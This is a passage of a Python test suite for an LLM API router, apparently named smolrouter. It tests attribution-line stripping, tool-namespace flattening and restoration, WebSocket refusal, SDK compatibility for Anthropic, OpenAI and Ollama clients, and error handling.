        (CHAT, '{"messages":[{"role":"user","content":"LINE"}]}'),
        (CHAT, '{"messages":[{"content":"LINE\\nx"}]}'),
        (CHAT, '{"messages":"LINE\\nx", "system": "LINE\\nx"}'),
        (CHAT, '{"messages":[{"role":"system","content":"a"},{"role":"system","content":"LINE"}]}'),
        (RESPONSES, '{"input":"LINE\\nhello"}'),
        (RESPONSES, '{"input":[]}'),
        ("/v1/completions", '{"prompt":["LINE\\nhello"]}'),
        ("/v1/rerank", '{"system":"LINE\\nhello"}'),
    )),
)  # fmt: skip


def test_requests_that_differ_in_that_line_alone_leave_as_the_same() -> None:
    changes = smolrouter.RequestChanges("m", strip_attribution=True)
    for path, text, expected in ATTRIBUTIONS:
        left = []
        for value in ("00000", "a1b2c", "\\u00e9\\\\"):
            line = BILLING % value
            content = text.replace("LINE", line).encode()
            parsed = smolrouter.read_object(path, "", content)
            left.append(smolrouter.encode_object(parsed, changes))
            assert left[-1] == expected.replace("LINE", line).encode()
            kept = smolrouter.encode_object(parsed, changes._replace(strip_attribution=False))
            assert kept == content
        assert text == expected or len(set(left)) == 1


def test_that_line_goes_beside_other_changes() -> None:
    text = (
        '{"model":"a","messages":[{"role":"system","content":"%s"},{"role":"user","content":"u"}]}'
    )
    parsed = smolrouter.read_object(CHAT, "", (text % (BILLING % 1)).encode())
    changes = smolrouter.RequestChanges("b", True, True, True)
    expected = (
        '{"model":"b","messages":[{"role":"user","content":"u /no_think"}],'
        '"stream_options":{"include_usage":true}}'
    )
    assert smolrouter.encode_object(parsed, changes).decode() == expected


def test_the_log_keeps_that_line() -> None:
    model = default_upstream().add_script(json_response({"content": []}))
    system = [{"type": "text", "text": BILLING % 1}, {"type": "text", "text": "You"}]
    body = {"model": model, "system": system, "messages": []}
    request(default_router().port, "POST", ANTHROPIC, body)
    (heard,) = default_upstream().requests_for(model)
    assert heard.content == encode_json(body | {"system": system[1:]})
    kept = wait_for_detail(default_router(), model)
    assert json.loads(kept["request_body"]) == body
    settings = {"DEFAULT_UPSTREAM": default_upstream().url, "STRIP_ATTRIBUTION": "false"}
    request(shared_router(settings).port, "POST", ANTHROPIC, body)
    assert default_upstream().requests_for(model)[-1].content == encode_json(body)


def test_hosts_under_a_domain() -> None:
    for url, expected in (
        ("https://api.anthropic.com", True),
        ("https://Anthropic.com./v1", True),
        ("https://notanthropic.com", False),
        ("https://anthropic.com.example", False),
        ("http://[::1]:80", False),
    ):
        assert smolrouter.parse_upstream_url(url).is_under("anthropic.com") is expected


# --- agents: requests of Codex --------------------------------------------------------


def test_a_websocket_is_refused_at_once_and_leaves_no_trace() -> None:
    settings = {"API_SECURITY": "ALWAYS_AUTH", "JWT_SECRET": SECRET, "WEBUI_SECURITY": "NONE"}
    router = shared_router({"DEFAULT_UPSTREAM": refusing_url(), **settings})
    upgrade = [("Connection", "Upgrade"), ("Upgrade", "WebSocket"), ("Sec-WebSocket-Version", "13")]
    first = encode_get(RESPONSES, upgrade)
    # The connection goes on over HTTP.
    heard = send_raw(router.port, first, first, encode_get("/healthz"), answers=3)
    replies, _ = split_responses(heard)
    assert [reply.status for reply in replies] == [426, 426, 200]
    assert replies[0].get("Upgrade") == "HTTP/1.1"
    assert "Upgrade" in replies[0].get("Connection")
    check_openai_error(replies[0].json)
    rows = get_document(router, "/api/logs?limit=1000")
    assert [row for row in rows if row["method"] == "GET"] == []
    for fields in ([], [("Upgrade", "h2c")], [("X-Upgrade", "websocket")]):
        got = request(router.port, "GET", RESPONSES, fields=[("X-Api-Key", GOOD_TOKEN), *fields])
        assert (got.status, got.get("Allow")) == (405, "POST, OPTIONS")
        assert request(router.port, "GET", RESPONSES, fields=fields).status == 401
    elsewhere = [*upgrade, ("Origin", "https://elsewhere.example")]
    assert request(router.port, "GET", RESPONSES, fields=elsewhere).status == 403
    assert request(router.port, "GET", "/v1/chat/completions", fields=upgrade).status == 401


# --- agents: tools in namespaces ------------------------------------------------------


def namespace(name: str, *tools: Any) -> dict[str, Any]:
    """Make a namespace of tools; a text is the name of a function."""
    made = [{"type": "function", "name": t, "x": 1.0} if isinstance(t, str) else t for t in tools]
    return {"type": "namespace", "name": name, "description": "d", "tools": made}


def function_tool(name: str) -> dict[str, Any]:
    """Make the tool that one of `namespace` becomes."""
    return {"type": "function", "name": name, "x": 1.0}


def flatten(document: Mapping[str, Any]) -> Any:
    """Return a request to /v1/responses as a server without namespaces gets it, and its names."""
    parsed = smolrouter.read_object(RESPONSES, "", encode_json({"model": "m", **document}))
    changes = smolrouter.RequestChanges("m", flatten_namespaces=True)
    return json.loads(smolrouter.encode_object(parsed, changes)), parsed.tool_names


def restore(names: Any, document: Any) -> Any:
    """Return an answer or event with the names that its client knows."""
    edits = smolrouter.restore_namespaces(names, document)
    return json.loads(smolrouter.edit_json(json.dumps(document), edits))


def call_of(name: str, space: str | None = None, kind: str = "function_call") -> dict[str, Any]:
    """Make a call of a tool."""
    more = {} if space is None else {"namespace": space}
    return {"type": kind, "call_id": "c", "name": name, **more, "arguments": "{}"}


# What a client says of its tools, and what its server gets; "HASH" is any.
FLATTENED = (
    ({"tools": [function_tool("a"), namespace("web", "find", "open"), {"type": "web_search"}]},
     {"tools": [function_tool("a"), function_tool("web__find"), function_tool("web__open"),
                {"type": "web_search"}]}),
    ({"tools": [namespace("empty")]}, {"tools": []}),
    ({"tools": [namespace("a", {"type": "custom", "name": "b"}, {"type": "web_search"}, 7)]},
     {"tools": [{"type": "custom", "name": "a__b"}, {"type": "web_search"}, 7]}),
    ({"tools": [namespace("a", namespace("b", "c"), "d")]},
     {"tools": [function_tool("a__b__c"), function_tool("a__d")]}),
    ({"tools": [namespace("", "c")]}, {"tools": [function_tool("__c")]}),
    # A namespace that cannot be read stays.
    *(({"tools": [tool]}, {"tools": [tool]}) for tool in (
        {"type": "namespace", "name": "a"}, {"type": "namespace", "name": 1, "tools": []},
        {"type": "namespace", "tools": ["x"]}, "namespace", None)),
    ({"tools": "namespace"}, {"tools": "namespace"}),
    # Names that are taken, too long or of other characters.
    ({"tools": [namespace("a", "b"), function_tool("a__b")]},
     {"tools": [function_tool("a__b_HASH"), function_tool("a__b")]}),
    ({"tools": [namespace("a", "b", "b")]},
     {"tools": [function_tool("a__b"), function_tool("a__b_HASH")]}),
    ({"tools": [namespace("a__b", "c"), namespace("a", "b__c")]},
     {"tools": [function_tool("a__b__c"), function_tool("a__b__c_HASH")]}),
    ({"tools": [namespace("n" * 60, "t", "tt", "ttt")]},
     {"tools": [function_tool("n" * 60 + "__t"), function_tool("n" * 60 + "__tt"),
                function_tool("n" * 55 + "_HASH")]}),
    ({"tools": [namespace("caf\u00e9.x", "\U0001f600")]},
     {"tools": [function_tool("caf__x____HASH")]}),
    # The history, and calls of tools that are not there any more.
    ({"input": [call_of("b", "a"), call_of("a__b"), call_of("z", "a", "custom_tool_call")],
      "tools": [namespace("a", "b")]},
     {"input": [call_of("a__b_HASH"), call_of("a__b"), call_of("a__z", None, "custom_tool_call")],
      "tools": [function_tool("a__b_HASH")]}),
    ({"input": [{"namespace": "a", "name": "b", "type": "message"}, call_of("b", "a"), 3]},
     {"input": [{"namespace": "a", "name": "b", "type": "message"}, call_of("a__b"), 3]}),
    # The choice of a tool.
    *(({"tools": [namespace("a", "b", "c"), namespace("d", {"type": "custom", "name": "e"})],
        "tool_choice": choice},
       {"tools": [*map(function_tool, ("a__b", "a__c")), {"type": "custom", "name": "d__e"}],
        "tool_choice": flat}) for choice, flat in (
        ("auto", "auto"),
        ({"type": "function", "name": "b"}, {"type": "function", "name": "b"}),
        ({"type": "function", "name": "b", "namespace": "a"}, {"type": "function", "name": "a__b"}),
        ({"type": "function", "name": "x", "namespace": "a"},
         {"type": "function", "name": "x", "namespace": "a"}),
        ({"type": "namespace", "name": "d"}, {"type": "custom", "name": "d__e"}),
        ({"type": "namespace", "name": "unknown"}, {"type": "namespace", "name": "unknown"}),
        ({"type": "namespace", "name": "a"},
         {"type": "allowed_tools", "mode": "required", "tools": [
            {"type": "function", "name": "a__b"}, {"type": "function", "name": "a__c"}]}),
        ({"type": "allowed_tools", "mode": "auto", "tools": [
            {"type": "namespace", "name": "a"}, {"type": "function", "name": "x"}, 5]},
         {"type": "allowed_tools", "mode": "auto", "tools": [
            {"type": "function", "name": "a__b"}, {"type": "function", "name": "a__c"},
            {"type": "function", "name": "x"}, 5]}),
        (["namespace"], ["namespace"]),
    )),
)  # fmt: skip


def without_hash(document: Any) -> Any:
    """Return a document with HASH where a name ends with one."""
    return json.loads(re.sub(r'_[0-9a-f]{8}"', '_HASH"', json.dumps(document)))


def test_namespaces_become_functions() -> None:
    for document, expected in FLATTENED:
        got, names = flatten(document)
        assert without_hash(got) == {"model": "m", **expected}
        for function, tool in (names.tools if names else {}).items():
            assert len(function) <= 64 and re.fullmatch("[A-Za-z0-9_-]+", function)
            back = restore(names, {"item": call_of(function)})["item"]
            assert back == {**call_of(tool.name), "namespace": tool.namespace}


def test_a_request_with_namespaces_keeps_every_other_byte() -> None:
    text = (
        '{ "model":"m","n": 1.0, "tools" : [ {"type":"namespace", "name":"a","tools":\n'
        ' [{ "name" : "b", "x": 1e3,"type":"f"} , {"type":"f","name":"\\u0063"}]}, {"y": 1.0}],\n'
        ' "input":[ {"type":"function_call", "namespace":"a" , "name":"b", "n":"\\u00e9"} ] }\n'
    )
    parsed = smolrouter.read_object(RESPONSES, "", text.encode())
    changes = smolrouter.RequestChanges("m", flatten_namespaces=True)
    assert smolrouter.encode_object(parsed, changes).decode() == (
        '{ "model":"m","n": 1.0, "tools" : [{ "name" : "a__b", "x": 1e3,"type":"f"},'
        '{"type":"f","name":"a__c"},{"y": 1.0}],\n'
        ' "input":[ {"type":"function_call" , "name":"a__b", "n":"\\u00e9"} ] }\n'
    )
    for path, changed in ((CHAT, changes), (RESPONSES, changes._replace(flatten_namespaces=False))):
        parsed = smolrouter.read_object(path, "", text.encode())
        assert smolrouter.encode_object(parsed, changed) == text.encode()


def test_members_that_stand_twice_neither_lose_a_tool_nor_make_one() -> None:
    one = '{"type":"namespace","name":"a","tools":[{"name":"z"},{"name":"y"}]}'
    two = '{"type":"namespace","name":"a","tools":[{"name":"x"}],"tools":[{"name":"b"}]}'
    text = f'{{"model":"m","tools":[{one},{one}],"tools":[{two}]}}'
    parsed = smolrouter.read_object(RESPONSES, "", text.encode())
    changes = smolrouter.RequestChanges("m", flatten_namespaces=True)
    got = json.loads(smolrouter.encode_object(parsed, changes))
    assert got["tools"] == [{"name": "a__b"}]


# Names that are likely to meet: the pieces of one another, long ones, odd ones.
TOOL_NAME_BITS = ("a", "b", "_", "__", "a__b", "\u00e9", ".", "", "n" * 31, "x" * 62, "\ud800", "-")


@fuzz(
    lambda st: {
        "data": st.lists(
            st.tuples(
                st.none() | st.lists(st.sampled_from(TOOL_NAME_BITS), max_size=3),
                st.lists(st.lists(st.sampled_from(TOOL_NAME_BITS), max_size=2), max_size=3),
            ),
            max_size=6,
        ),
        "history": st.lists(
            st.tuples(st.integers(0, 20), st.none() | st.sampled_from(TOOL_NAME_BITS)), max_size=5
        ),
    }
)
def test_fuzz_namespaces(data: Any, history: Any) -> None:
    """No tool is lost, none is invented, and each call comes back as its client knows it."""
    tools: list[Any] = []
    known: list[tuple[str | None, str]] = []
    for space, inner in data:
        names = ["".join(bits) for bits in inner]
        known += [(None if space is None else "".join(space), name) for name in names]
        if space is None:
            tools += map(function_tool, names)
        else:
            tools.append(namespace("".join(space), *names))
    calls = []
    for number, other in history:
        space, name = known[number % len(known)] if known else ("old", "gone")
        calls.append(call_of(name if other is None else other, space))
    got, names = flatten({"tools": tools, "input": calls})
    # As many tools as there were, each but for its name the same.
    functions = [tool["name"] for tool in got["tools"]]
    assert got["tools"] == list(map(function_tool, functions)) and len(functions) == len(known)
    for (space, name), function in zip(known, functions, strict=True):
        if space is None:
            assert function == name
            continue
        assert re.fullmatch("[A-Za-z0-9_-]{1,64}", function) and functions.count(function) == 1
        back = restore(names, {"output": [call_of(function)]})["output"][0]
        assert (back["namespace"], back["name"]) == (space, name)
    for before, after in zip(calls, got["input"], strict=True):
        if "namespace" not in before:
            assert after == before
            continue
        back = restore(names, {"type": "x", "item": after})["item"]
        assert back == before
        if (before["namespace"], before["name"]) in known:
            assert after["name"] in functions
    for name in [*(name for space, name in known if space is None), "elsewhere", ""]:
        if names:
            assert restore(names, {"item": call_of(name)})["item"] == call_of(name)


def response_events(calls: Sequence[Mapping[str, Any]], text: str = "") -> list[dict[str, Any]]:
    """Make the events of an answer with these calls, as OpenAI's own servers say them."""
    message = {"type": "message", "content": [{"type": "output_text", "text": text}]}
    place = {"item_id": "m", "output_index": 0, "content_index": 0}
    events: list[dict[str, Any]] = [{"type": "response.created", "response": {"output": []}}]
    events.append({"type": "response.output_text.delta", **place, "delta": text})
    # The calls come in parallel.
    events += [
        {
            "type": "response.output_item.added",
            "output_index": at,
            "item": {**call, "arguments": ""},
        }
        for at, call in enumerate(calls, 1)
    ]
    for at, call in enumerate(calls, 1):
        place = {"item_id": f"fc_{at}", "output_index": at}
        delta = {"delta": '{"name": "a__b"}', **place}
        done = {"name": call["name"], "arguments": "{}", **place}
        events += [
            {"type": "response.function_call_arguments.delta", **delta},
            {"type": "response.function_call_arguments.done", **done},
            {"type": "response.output_item.done", "output_index": at, "item": call},
        ]
    return [*events, {"type": "response.completed", "response": {"output": [message, *calls]}}]


NAMESPACES = {"tools": [namespace("a", "b"), namespace("mcp__x", "y"), function_tool("a__c")]}
FLAT_CALLS = [call_of(name) for name in ("mcp__x__y", "a__b", "a__c", "a__b", "a.b")]
CLIENT_CALLS = [
    call_of("y", "mcp__x"),
    call_of("b", "a"),
    call_of("a__c"),
    call_of("b", "a"),
    call_of("a.b"),
]
CALLS_TEXT = 'I call "function_call" a__b'


def read_named_events(stream: bytes) -> list[dict[str, Any]]:
    """Return the documents of events that say their type in a line of their own."""
    return [json.loads(line[6:]) for line in stream.split(b"\n") if line.startswith(b"data:")]


def test_streamed_calls_get_their_namespaces_back_at_every_split() -> None:
    names = flatten(NAMESPACES)[1]
    stream = b"".join(named_events(response_events(FLAT_CALLS[:2], CALLS_TEXT)))
    expected = response_events(CLIENT_CALLS[:2], CALLS_TEXT)
    parsed = smolrouter.read_object(RESPONSES, "", b'{"model": "m", "stream": true}')
    for rules in (smolrouter.FilterRules(), smolrouter.FilterRules(think=True, move=True)):
        plan = answer_plan(path=RESPONSES)._replace(parsed=parsed, rules=rules, tool_names=names)
        for split in range(0, len(stream), 11 if rules.think else 1):
            rewriter = smolrouter.choose_rewriter(plan, 200, "text/event-stream")
            got = rewriter.feed(stream[:split]) + rewriter.feed(stream[split:]) + rewriter.finish()
            assert read_named_events(got) == expected, split
        # What names no tool leaves as it came.
        deltas = [e for e in stream.split(b"\n\n") if b".delta" in e]
        assert all(delta in got for delta in deltas)


def test_tools_in_namespaces_from_end_to_end() -> None:
    whole = {"id": "r", "output": [*FLAT_CALLS, {"type": "message", "content": []}]}

    def answer(received: Received) -> Iterable[Step]:
        if received.json.get("stream"):
            return sse_response(named_events(response_events(FLAT_CALLS, CALLS_TEXT)))
        return json_response(whole)

    model = default_upstream().add_script(answer)
    body = {"model": model, "input": [call_of("b", "a")], **NAMESPACES}
    flat = [function_tool(name) for name in ("a__b", "mcp__x__y", "a__c")]
    got = request(default_router().port, "POST", RESPONSES, body)
    assert got.json == {**whole, "output": [*CLIENT_CALLS, whole["output"][-1]]}
    heard = default_upstream().requests_for(model)[-1].json
    assert heard == {"model": model, "input": [call_of("a__b")], "tools": flat}
    # The log keeps what either side said.
    kept = wait_for_detail(default_router(), model)
    assert json.loads(kept["request_body"]) == body
    assert json.loads(kept["response_body"]) == whole
    got = request(default_router().port, "POST", RESPONSES, {**body, "stream": True})
    assert read_named_events(got.content) == response_events(CLIENT_CALLS, CALLS_TEXT)
    # One server takes them as they are, the other is told in the file that it does not.
    url = default_upstream().url
    for word, sent in (("keep", NAMESPACES["tools"]), ("flatten", flat)):
        server = {"url": url, "discover": False, "namespace_tools": word}
        routes = {
            "servers": {"box": server},
            "routes": [{"match": {}, "route": {"upstream": "box"}}],
        }
        got = request(shared_router({}, routes).port, "POST", RESPONSES, body)
        assert default_upstream().requests_for(model)[-1].json["tools"] == sent
        assert (got.json == whole) is (word == "keep")


def test_who_knows_namespaces() -> None:
    for url, said, expected in (
        ("https://api.openai.com", None, True),
        ("https://me.openai.azure.com/openai", None, True),
        ("https://api.openai.com", "flatten", False),
        ("https://openai.com.example", None, False),
        ("http://box:8000", None, False),
        ("http://box:8000", "keep", True),
    ):
        record = {"url": url, **({"namespace_tools": said} if said else {})}
        settings = smolrouter.Settings.from_mapping({})
        table = smolrouter.parse_routes(json.dumps({"servers": {"s": record}}), "r", {}, settings)
        assert table.servers["s"].knows_namespaces is expected
    bad = '{"servers": {"s": {"url": "http://a", "namespace_tools": "drop"}}}'
    with pytest.raises(smolrouter.ConfigError, match="namespace_tools: 'drop' instead of flatten"):
        smolrouter.parse_routes(bad, "r", {}, settings)


# --- agents: the official clients -----------------------------------------------------

ANTHROPIC_ERRORS = {
    **SDK_ERRORS,
    401: "AuthenticationError",
    502: "InternalServerError",
    504: "DeadlineExceededError",
}
CLAUDE_TOOLS = [
    {"name": name, "input_schema": {"type": "object", "properties": {"city": {"type": "string"}}}}
    for name, _ in TOOL_CALLS
]
HEARD_TOOLS = [
    {"role": "assistant", "content": [
        {"type": "tool_use", "id": "t1", "name": "weather", "input": {"city": "Paris"}}]},
    {"role": "user", "content": [
        {"type": "tool_result", "tool_use_id": "t1", "content": "warm", "is_error": False}]},
]  # fmt: skip


def ask_claude(sdk: Sdk, model: str, router: Router | None = None, **more: Any) -> Any:
    """Send a message by Anthropic's client."""
    asked = {"max_tokens": 9, "messages": HELLO_MESSAGES, **more}
    url = (router or sdk_router()).url
    return sdk.call(url, "messages.create", model=model, **asked)


@each_way
@each_anthropic
def test_anthropic_messages_of_its_client(sdk: Sdk, way: str) -> None:
    got = ask_claude(sdk, f"{way}-claude", system="be kind")
    assert (got.content[0].text, got.usage.input_tokens) == ("Hello \u00e9", 9)
    assert last_request().json["system"] == "be kind"
    parts = ask_claude(sdk, f"{way}-claude", stream=True)
    assert [part.type for part in parts if part.type != "ping"] == [
        "message_start",
        "content_block_start",
        "content_block_delta",
        "content_block_stop",
        "message_delta",
        "message_stop",
    ]
    assert parts[-2].usage.output_tokens == 4


@each_way
@each_anthropic
def test_anthropic_tools_and_counts_of_its_client(sdk: Sdk, way: str) -> None:
    asked = {"tools": CLAUDE_TOOLS, "messages": [*HELLO_MESSAGES, *HEARD_TOOLS]}
    got = ask_claude(sdk, f"{way}-claude-tools", **asked)
    assert [(b.name, b.input) for b in got.content] == [
        ("weather", {"city": "Paris"}),
        ("clock", {}),
    ]
    assert last_request().json["messages"][-1] == HEARD_TOOLS[-1]
    parts = ask_claude(sdk, f"{way}-claude-tools", stream=True, **asked)
    pieces = [p.delta.partial_json for p in parts if p.type == "content_block_delta"]
    assert "".join(pieces) == '{"city": "Paris"}'
    count = "messages.count_tokens"
    url = sdk_router().url
    named = {"model": f"{way}-claude-tools", "messages": HELLO_MESSAGES}
    assert sdk.call(url, count, **named).input_tokens == 42
    anthropic = import_or_skip("anthropic")
    with pytest.raises(anthropic.NotFoundError) as caught:
        sdk.call(url, count, **{**named, "model": f"{way}-claude"})
    assert caught.value.body["error"]["type"] == "not_found_error"


@each_anthropic
def test_anthropic_errors_of_the_server_and_of_the_router(sdk: Sdk) -> None:
    anthropic = import_or_skip("anthropic")
    for way, stream in itertools.product(KINDS_OF_ROUTE, (False, True)):
        for status in SDK_ERRORS:
            with pytest.raises(anthropic.APIStatusError) as caught:
                ask_claude(sdk, f"{way}-error-{status}", stream=stream)
            assert type(caught.value).__name__ == ANTHROPIC_ERRORS[status]
            assert caught.value.body == own_error(status)
        with pytest.raises(anthropic.InternalServerError) as caught:
            ask_claude(sdk, f"{way}-nobody", stream=stream)
        check_messages_error_document(caught.value.body, 502)
    with pytest.raises(anthropic.APIStatusError) as caught:
        ask_claude(sdk, "rule-mute", impatient_router())
    assert caught.value.status_code == 504
    check_messages_error_document(caught.value.body, 504)
    with pytest.raises(anthropic.APITimeoutError):
        ask_claude(dataclasses.replace(sdk, timeout=0.3), "rule-mute")


@each_anthropic
def test_anthropic_error_in_a_stream_reaches_its_client(sdk: Sdk) -> None:
    anthropic = import_or_skip("anthropic")
    begun = stream_response(CLAUDE_EVENTS[:4], whole=False)
    model = sdk_upstream().add_script([*begun, 0.1, CLOSE])
    parts: list[Any] = []
    with pytest.raises(anthropic.APIStatusError) as caught:
        ask_claude(sdk, model, stream=True, parts=parts)
    assert caught.value.body["error"]["type"] == "api_error"
    assert parts[-1].delta.text == "Hello"


RESPONSES_TOOLS: list[Any] = [
    {"type": "function", "name": "clock", "parameters": {}, "strict": False},
    {"type": "namespace", "name": "mcp__sky", "description": "d", "tools": [
        {"type": "function", "name": "weather", "parameters": {}, "strict": False}]},
]  # fmt: skip


@each_way
@each_openai
def test_openai_responses_with_tools(sdk: Sdk, way: str) -> None:
    url = sdk_router().url
    asked = {"model": f"{way}-respond-tools", "input": "hello", "tools": RESPONSES_TOOLS}
    whole = sdk.call(url, "responses.create", **asked)
    assert [tool["name"] for tool in last_request().json["tools"]] == ["clock", "mcp__sky__weather"]
    parts = sdk.call(url, "responses.create", stream=True, **asked)
    added = [p.item for p in parts if p.type == "response.output_item.added"]
    for calls in (whole.output, added, parts[-1].response.output):
        named = [(call.name, getattr(call, "namespace", None)) for call in calls]
        assert named == [("clock", None), ("weather", "mcp__sky")]
    assert whole.usage.input_tokens_details.cached_tokens == 20


@each_openai
def test_openai_responses_errors(sdk: Sdk) -> None:
    openai = import_or_skip("openai")
    url = sdk_router().url
    for way, stream in itertools.product(KINDS_OF_ROUTE, (False, True)):
        asked = {"input": "hello", "stream": stream}
        for status, name in SDK_ERRORS.items():
            with pytest.raises(getattr(openai, name)) as caught:
                sdk.call(url, "responses.create", model=f"{way}-error-{status}", **asked)
            assert caught.value.status_code == status
        with pytest.raises(openai.InternalServerError) as caught:
            sdk.call(url, "responses.create", model=f"{way}-nobody", **asked)
        assert caught.value.status_code == 502
    with pytest.raises(openai.InternalServerError) as caught:
        sdk.call(impatient_router().url, "responses.create", model="rule-mute", input="x")
    assert caught.value.status_code == 504
    with pytest.raises(openai.APITimeoutError):
        hasty = dataclasses.replace(sdk, timeout=0.3)
        hasty.call(url, "responses.create", model="rule-mute", input="x")


# --- Ollama: the official client ------------------------------------------------------

RFC_3339 = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?(Z|[+-]\d\d:\d\d)")
DURATIONS = ("total_duration", "load_duration", "prompt_eval_duration", "eval_duration")


def check_ollama(parts: list[Any], model: str, reason: str = "stop") -> None:
    """Assert what every Ollama answer has, whole (one part) or streamed (several)."""
    for part in parts:
        assert part["model"] == model
        assert RFC_3339.fullmatch(part["created_at"])
    assert [bool(part["done"]) for part in parts] == [False] * (len(parts) - 1) + [True]
    last = parts[-1]
    assert last["done_reason"] == reason
    assert all(isinstance(last[name], int) and last[name] >= 0 for name in DURATIONS)
    assert 0 < last["total_duration"] < 60e9
    # Otherwise a client would show a million tokens a second.
    if len(parts) == 1:
        assert last["eval_duration"] == last["total_duration"]


def check_counts(last: Any, text: str) -> None:
    """Assert that the counts are the server's own."""
    used = usage_of(text)
    assert last["prompt_eval_count"] == used["prompt_tokens"]
    assert last["eval_count"] == used["completion_tokens"]


@each_way
@each_ollama
@whole_or_lines
def test_ollama_chat(sdk: Sdk, way: str, stream: bool) -> None:
    model = f"{way}-talk"
    got = sdk.call(sdk_router().url, "chat", model=model, messages=HELLO_MESSAGES, stream=stream)
    parts = got if stream else [got]
    assert "".join(p.message.content or "" for p in parts) == HELLO_ANSWER
    assert {p.message.role for p in parts} == {"assistant"}
    check_ollama(parts, model)
    check_counts(parts[-1], HELLO_ANSWER)
    heard = last_request()
    assert heard.path == "/v1/chat/completions"
    assert (heard.json["model"], heard.json["messages"]) == ("talk", HELLO_MESSAGES)
    assert bool(heard.json.get("stream")) == stream


@each_way
@each_ollama
@whole_or_lines
def test_ollama_generate(sdk: Sdk, way: str, stream: bool) -> None:
    model = f"{way}-talk"
    got = sdk.call(
        sdk_router().url,
        "generate",
        model=model,
        prompt="hello",
        system="be kind",
        stream=stream,
    )
    parts = got if stream else [got]
    assert "".join(p.response or "" for p in parts) == HELLO_ANSWER
    check_ollama(parts, model)
    check_counts(parts[-1], HELLO_ANSWER)
    system = {"role": "system", "content": "be kind"}
    assert last_request().json["messages"] == [system, *HELLO_MESSAGES]


@each_way
@each_ollama
@pytest.mark.parametrize("given", ("a", ["a", "b"]), ids=("one", "two"))
def test_ollama_embed(sdk: Sdk, way: str, given: str | list[str]) -> None:
    got = sdk.call(sdk_router().url, "embed", model=f"{way}-vectors", input=given)
    assert [list(v) for v in got.embeddings] == [VECTOR] * len(given)
    assert got.model == f"{way}-vectors"
    assert got.prompt_eval_count == 5
    assert got.total_duration > 0
    heard = last_request()
    assert heard.path == "/v1/embeddings"
    assert heard.model == "vectors"
    assert heard.json["input"] in (given, [given])


@each_way
@each_ollama
def test_ollama_old_embeddings(sdk: Sdk, way: str) -> None:
    got = sdk.call(sdk_router().url, "embeddings", model=f"{way}-vectors", prompt="a")
    assert list(got.embedding) == VECTOR
    assert last_request().json["input"] in ("a", ["a"])


@each_way
@each_ollama
@whole_or_lines
def test_ollama_tool_calls(sdk: Sdk, way: str, stream: bool) -> None:
    model = f"{way}-tools"
    got = sdk.call(
        sdk_router().url, "chat", model=model, messages=HELLO_MESSAGES, tools=TOOLS, stream=stream
    )
    parts = got if stream else [got]
    calls = [c.function for p in parts for c in p.message.tool_calls or ()]
    assert [(c.name, dict(c.arguments)) for c in calls] == [*TOOL_CALLS]
    assert parts[-1].done and parts[-1].done_reason in ("stop", "tool_calls")
    assert last_request().json["tools"] == TOOLS


def check_format(asked: dict, schema: dict | None) -> None:
    """Assert the `response_format` that asks for any JSON, or for this schema."""
    if schema is None:
        assert asked == {"type": "json_object"}
    else:
        assert asked["type"] == "json_schema"
        assert asked["json_schema"]["schema"] == schema
        assert asked["json_schema"]["name"]


@each_way
@each_ollama
@pytest.mark.parametrize("form", ("json", "schema"))
def test_ollama_structured_output(sdk: Sdk, way: str, form: str) -> None:
    schema = {"type": "object", "properties": {"city": {"type": "string"}}}
    got = sdk.call(
        sdk_router().url,
        "chat",
        model=f"{way}-json",
        messages=HELLO_MESSAGES,
        format="json" if form == "json" else schema,
    )
    assert json.loads(got.message.content) == CITY
    check_format(last_request().json["response_format"], None if form == "json" else schema)


@each_way
@each_ollama
@pytest.mark.parametrize("method", ("chat", "generate"))
def test_ollama_vision(sdk: Sdk, way: str, method: str) -> None:
    images = [*PICTURES.values()]
    asked: dict[str, Any] = {"prompt": "hello", "images": images}
    if method == "chat":
        asked = {"messages": [{**HELLO_MESSAGES[0], "images": images}]}
    sdk.call(sdk_router().url, method, model=f"{way}-talk", **asked)
    message = last_request().json["messages"][-1]
    assert message["role"] == "user"
    texts = [part["text"] for part in message["content"] if part["type"] == "text"]
    urls = [part for part in message["content"] if part["type"] == "image_url"]
    assert texts == ["hello"]
    assert [u["image_url"]["url"] for u in urls] == [
        image_part(kind)["image_url"]["url"] for kind in PICTURES
    ]


# --- Ollama: errors -------------------------------------------------------------------


@each_way
@each_ollama
@whole_or_lines
@pytest.mark.parametrize("status", SDK_ERRORS)
def test_ollama_errors_of_the_server(sdk: Sdk, way: str, stream: bool, status: int) -> None:
    with pytest.raises(import_or_skip("ollama").ResponseError) as caught:
        sdk.call(
            sdk_router().url,
            "chat",
            model=f"{way}-error-{status}",
            messages=HELLO_MESSAGES,
            stream=stream,
        )
    assert caught.value.status_code == status
    assert f"the server's own {status}" in caught.value.error
    assert not caught.value.error.startswith("{"), "the text alone, not the document"


@each_way
@each_ollama
@pytest.mark.parametrize("stream", (False,), ids=("whole",))
@pytest.mark.parametrize("name, status", (("mute", 504), ("nobody", 502)))
def test_ollama_late_or_nobody(sdk: Sdk, way: str, stream: bool, name: str, status: int) -> None:
    with pytest.raises(import_or_skip("ollama").ResponseError) as caught:
        sdk.call(
            impatient_router().url, "generate", model=f"{way}-{name}", prompt="x", stream=stream
        )
    assert caught.value.status_code == status
    if status == 504:
        assert "REQUEST_TIMEOUT" in caught.value.error and "0.75" in caught.value.error


@pytest.mark.parametrize("way", ("alias",))
@each_ollama
@pytest.mark.parametrize("name", BREAKING_SCRIPTS)
def test_ollama_stream_that_breaks(sdk: Sdk, way: str, name: str) -> None:
    parts: list[Any] = []
    with pytest.raises(import_or_skip("ollama").ResponseError) as caught:
        sdk.call(
            impatient_router().url,
            "chat",
            model=f"{way}-{name}",
            messages=HELLO_MESSAGES,
            stream=True,
            parts=parts,
        )
    assert "".join(p.message.content or "" for p in parts) == "One two "
    assert not any(p.done for p in parts)
    if name == "trouble":
        assert "out of memory" in caught.value.error


@pytest.mark.parametrize("name", BREAKING_SCRIPTS)
def test_ollama_last_line_is_the_error(name: str) -> None:
    got = post_json("/api/generate", {"model": name, "prompt": "x"}, impatient_router())
    assert got.status == 200
    *words, last = got.documents
    assert "".join(w["response"] for w in words) == "One two "
    assert set(last) == {"error"} and isinstance(last["error"], str)


def test_ollama_error_keeps_retry_after() -> None:
    got = post_json("/api/chat", chat_document("error-429"))
    assert (got.status, got.get("Retry-After")) == (429, "7")
    assert got.json == {"error": "the server's own 429"}


ERROR_EVENTS = {
    "named": b'event: error\ndata: {"message":"no memory","code":500}\n\n',
    "field": b'error: {"code":500,"message":"no memory"}\n\n',
    "words": b"error: no memory\n\n",
